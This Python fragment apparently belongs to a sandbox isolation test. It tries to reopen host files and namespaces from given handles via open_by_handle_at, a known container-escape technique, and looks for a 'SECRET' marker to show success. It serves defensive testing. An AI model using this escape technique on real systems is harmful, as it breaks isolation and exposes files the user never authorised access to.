# Files and namespaces of the host by their handles, which the attacker is given: nothing has to be guessed.
#   handles.py here|nested KIND:HANDLE…    (KIND file or namespace; HANDLE in hex)
place, handles = sys.argv[1], sys.argv[2:]
if place == "nested":
    nest(CLONE_NEWNS | CLONE_NEWPID)
NSFS_ROOT = -10003


def opened(directory, text):
    """What belongs to the handle, if it has the mark: the numbers alone may fit something else elsewhere."""
    raw = bytes.fromhex(text)
    handle = ctypes.create_string_buffer(struct.pack("Ii", len(raw) - 4, struct.unpack("i", raw[:4])[0]) + raw[4:])
    try:
        descriptor = c("open_by_handle_at", directory, handle, os.O_RDONLY)
    except PermissionError:
        # New kernels allow some more for directories.
        descriptor = c("open_by_handle_at", directory, handle, os.O_RDONLY | os.O_DIRECTORY)
    if directory == NSFS_ROOT:
        return os.readlink(f"/proc/self/fd/{descriptor}")
    if os.path.isdir(f"/proc/self/fd/{descriptor}"):
        return "SECRET" in os.listdir(descriptor) and "listed"
    return b"SECRET" in os.read(descriptor, 1 << 16) and "read"


mounts = sorted({line.split()[4] for line in open("/proc/self/mountinfo")} | {os.getcwd(), os.environ["HOME"]})
for number, (kind, handle) in enumerate(one.split(":") for one in handles):
    if kind == "namespace":
        attempt(f"{number} {kind}", apart(lambda: opened(NSFS_ROOT, handle)))
        continue
    for at in mounts:
        def try_it():
            return opened(os.open(at, os.O_RDONLY), handle)
        attempt(f"{number} {kind} {at}", apart(try_it))
